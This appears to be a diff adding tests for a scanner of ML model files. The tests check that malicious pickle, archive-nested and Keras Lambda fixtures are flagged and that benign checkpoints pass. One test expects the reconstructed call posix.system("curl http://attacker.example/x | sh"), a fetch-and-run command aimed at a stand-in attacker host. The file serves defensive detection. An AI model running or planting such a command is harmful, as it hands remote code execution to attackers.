@@ -1,0 +1,126 @@
+/**
+ * The corpus contract: every malicious fixture is judged malicious, no benign fixture is, and no
+ * hostile fixture (truncated, unknown opcodes, broken containers, bombs) is judged safe.
+ */
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { mkdtemp } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { before, describe, it } from "node:test";
+import { buildCorpus, type Corpus } from "./fixtures/corpus.js";
+import { scanModelFile, scanModelPath } from "./index.js";
+
+describe("model corpus", () => {
+  let corpus: Corpus;
+  before(() => {
+    corpus = buildCorpus();
+  });
+
+  it("has at least 40 malicious variants and 20 benign checkpoints", () => {
+    const count = (group: string) => corpus.entries.filter((e) => e.group === group).length;
+    assert.ok(count("malicious") >= 40, `malicious: ${count("malicious")}`);
+    assert.ok(count("benign") >= 20, `benign: ${count("benign")}`);
+    assert.ok(count("hostile") >= 10, `hostile: ${count("hostile")}`);
+  });
+
+  it("judges every malicious fixture malicious", async () => {
+    const misses: string[] = [];
+    for (const e of corpus.entries.filter((x) => x.expect === "malicious")) {
+      const r = await scanModelFile(join(corpus.dir, e.path), { hash: false });
+      if (r?.verdict !== "malicious") misses.push(`${e.path}: ${r?.verdict ?? "not a model"}`);
+    }
+    assert.deepEqual(misses, []);
+  });
+
+  it("judges every benign fixture safe", async () => {
+    const wrong: string[] = [];
+    for (const e of corpus.entries.filter((x) => x.expect === "safe")) {
+      const r = await scanModelFile(join(corpus.dir, e.path), { hash: false });
+      if (r?.verdict !== "safe") wrong.push(`${e.path}: ${r?.verdict} ${JSON.stringify(r?.findings)}`);
+    }
+    assert.deepEqual(wrong, []);
+  });
+
+  it("never judges a hostile fixture safe, and says why", async () => {
+    const wrong: string[] = [];
+    for (const e of corpus.entries.filter((x) => x.expect === "not-safe")) {
+      const r = await scanModelFile(join(corpus.dir, e.path), { hash: false });
+      if (!r || r.verdict === "safe" || r.findings.length === 0) wrong.push(`${e.path}: ${r?.verdict}`);
+    }
+    assert.deepEqual(wrong, []);
+  });
+
+  it("reports the reconstructed call and its byte offset", async () => {
+    const file = join(corpus.dir, "malicious/reduce-os-system/proto2.pkl");
+    const r = await scanModelFile(file, { hash: false });
+    const f = r?.findings.find((x) => x.rule === "pickle-dangerous-call");
+    assert.equal(f?.detail.startsWith('posix.system("curl http://attacker.example/x | sh")'), true);
+    assert.equal(readFileSync(file)[f?.offset ?? -1], "R".charCodeAt(0), "offset points at the REDUCE opcode");
+  });
+
+  it("tags findings inside archives with the member path", async () => {
+    const r = await scanModelFile(join(corpus.dir, "malicious/archive-nesting/zip-in-tar.tar"), { hash: false });
+    assert.equal(r?.findings[0]?.entry, "models/bundle.zip!inner/model.pkl");
+  });
+
+  it("identifies a Hugging Face folder from the pickle and config.json", async () => {
+    const [r] = await scanModelPath(join(corpus.dir, "benign/hf-folder"));
+    assert.equal(r?.format, "pytorch-zip");
+    assert.deepEqual(
+      { ...r?.identity },
+      {
+        format: "pytorch-zip",
+        parameters: 648,
+        source: "pickle",
+        quantisation: "float32",
+        architecture: "BertModel",
+        name: "tiny-bert",
+        contextLength: 512,
+      },
+    );
+    assert.match(r?.sha256 ?? "", /^[0-9a-f]{64}$/);
+  });
+
+  it("reads GGUF identity: architecture, context, quantisation, licence, parameters", async () => {
+    const r = await scanModelFile(join(corpus.dir, "benign/gguf/llama.gguf"), { hash: false });
+    assert.equal(r?.identity.architecture, "llama");
+    assert.equal(r?.identity.contextLength, 4096);
+    assert.equal(r?.identity.quantisation, "Q4_K_M");
+    assert.equal(r?.identity.license, "apache-2.0");
+    assert.equal(r?.identity.parameters, 4096);
+  });
+});
+
+describe("legacy Keras HDF5", () => {
+  async function h5(config: unknown): Promise<string> {
+    const h5wasm = await import("h5wasm/node");
+    await h5wasm.ready;
+    const path = join(await mkdtemp(join(tmpdir(), "palisade-h5-")), "model.h5");
+    const file = new h5wasm.File(path, "w");
+    if (config) file.create_attribute("model_config", JSON.stringify(config));
+    file.create_group("model_weights");
+    file.close();
+    return path;
+  }
+  const dense = { class_name: "Dense", config: { name: "dense", units: 4 } };
+
+  it("catches a Lambda layer in model_config", async () => {
+    const lambda = {
+      class_name: "Lambda",
+      config: { name: "evil", function: ["4wEAAAAA", null, null], function_type: "lambda" },
+    };
+    const r = await scanModelFile(await h5({ class_name: "Sequential", config: { layers: [dense, lambda] } }));
+    assert.equal(r?.format, "keras-h5");
+    assert.equal(r?.verdict, "malicious");
+    assert.equal(r?.findings[0]?.rule, "keras-lambda");
+  });
+
+  it("passes a plain Dense model and a weights-only file", async () => {
+    const model = await scanModelFile(await h5({ class_name: "Sequential", config: { name: "m", layers: [dense] } }));
+    assert.equal(model?.verdict, "safe");
+    assert.equal(model?.identity.architecture, "Sequential");
+    const weights = await scanModelFile(await h5(undefined));
+    assert.equal(weights?.verdict, "safe");
+  });
+});
